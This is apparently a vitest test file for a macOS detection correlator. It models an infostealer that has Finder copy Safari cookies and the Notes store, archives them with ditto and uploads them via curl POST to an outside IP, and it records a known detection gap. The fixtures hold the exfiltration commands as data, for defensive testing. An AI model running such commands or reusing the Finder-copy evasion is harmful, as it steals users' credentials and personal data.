/**
 * AMOS's AppleScript (and Banshee's, Poseidon's) has Finder copy what osascript itself may not read:
 * `tell application "Finder" to duplicate file "Cookies.binarycookies" …`, the Notes store, the keychain folder,
 * Desktop and Documents files, into the staging folder. Finder does the read (a clone of the file), in Finder's own
 * lineage group; the stealer's group (osascript → sh → ditto, curl) shows only the archive of the staging folder and the
 * upload. Over TLS that is still an AN1415 candidate (archive precursor). Over plain HTTP (AMOS's and Banshee's
 * `curl -X POST … http://<IP>/…`) AN0425 wants a tier-1/2 read of the group, and nothing else takes the flow: a known
 * gap, kept here as `it.fails` until the fix below is decided.
 *
 * Fix options (trade-offs, not made): (1) data lineage: record the destination of a sensitive clone/copy and credit
 * the group whose archive (or upload) reads that folder (ditto's source operand is in archive_events.args); (2) let
 * AN0425 take an archive precursor written to a staging path, as AN1415 does over TLS (FP: installers and updaters
 * that fetch over HTTP after unpacking a .zip in /tmp).
 */
import { describe, expect, it } from 'vitest';
import { correlate } from './correlate.js';
import { MiB, NOW, TERMINAL, TERMINAL_SIGNING, ZSH, buildWorld } from './testing/world.js';

const FINDER = { pid: 400, processStart: NOW - 80_000, ppid: 1, originalPpid: 1, path: '/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder', signingId: 'com.apple.finder', platformBinary: true };
const OSA = { pid: 820, processStart: NOW - 300, ppid: ZSH.pid, path: '/usr/bin/osascript', args: ['osascript', '-e', 'on readwrite…'], tty: true, signingId: 'com.apple.osascript', platformBinary: true };
const SH1 = { pid: 830, processStart: NOW - 70, ppid: OSA.pid, path: '/bin/sh', args: ['sh', '-c', 'ditto -c -k --sequesterRsrc /tmp/salmonela/ /tmp/salmonela.zip'], signingId: 'com.apple.sh', platformBinary: true };
const DITTO = { pid: 831, processStart: NOW - 70, ppid: SH1.pid, path: '/usr/bin/ditto', signingId: 'com.apple.ditto', platformBinary: true };
const SH2 = { pid: 840, processStart: NOW - 60, ppid: OSA.pid, path: '/bin/sh', args: ['sh', '-c', 'curl -X POST -F lil-arch=@/tmp/salmonela.zip http://…'], signingId: 'com.apple.sh', platformBinary: true };
const CURL = { pid: 841, processStart: NOW - 60, ppid: SH2.pid, path: '/usr/bin/curl', signingId: 'com.apple.curl', platformBinary: true };

const world = (port: number) =>
  buildWorld({
    processes: [TERMINAL, ZSH, FINDER, OSA, SH1, DITTO, SH2, CURL],
    signing: [...TERMINAL_SIGNING, { path: FINDER.path, cls: 'apple_platform', signingId: 'com.apple.finder' }],
    sensitive: [
      // Finder's clones of what the script asked it to duplicate: Finder's group, not the stealer's
      { pid: FINDER.pid, ppid: 1, process_start: FINDER.processStart, path: FINDER.path, time: NOW - 120, file_path: '/Users/alice/Library/Cookies/Cookies.binarycookies', category: 'browser_secrets', tier: 1 },
      { pid: FINDER.pid, ppid: 1, process_start: FINDER.processStart, path: FINDER.path, time: NOW - 110, file_path: '/Users/alice/Library/Group Containers/group.com.apple.notes/NoteStore.sqlite', category: 'personal_data', tier: 2 },
    ],
    archive: [{ pid: DITTO.pid, ppid: SH1.pid, process_start: DITTO.processStart, path: DITTO.path, time: NOW - 70, archive_path: '/tmp/salmonela.zip', args: 'ditto -c -k --sequesterRsrc /tmp/salmonela/ /tmp/salmonela.zip', staging: 1 }],
    flows: [{ pid: CURL.pid, processStart: CURL.processStart, remote: '45.142.122.92', remotePort: port, bytesOut: 3 * MiB, bytesIn: 400, firstSeen: NOW - 55, lastSeen: NOW - 50 }],
  });
const analytics = (port: number) => correlate(world(port)).rows.map((r) => r.analytic);

describe('reads done by Finder on the stealer\'s behalf (AppleScript `duplicate`)', () => {
  it('over TLS the upload is still an AN1415 candidate, from its staged archive', () => {
    expect(analytics(443)).toContain('AN1415');
  });

  it.fails('over plain HTTP the upload is a candidate (known gap: no analytic takes it)', () => {
    expect(analytics(80).filter((a) => a === 'AN0425' || a === 'AN0990' || a === 'AN1415')).not.toEqual([]);
  });
});
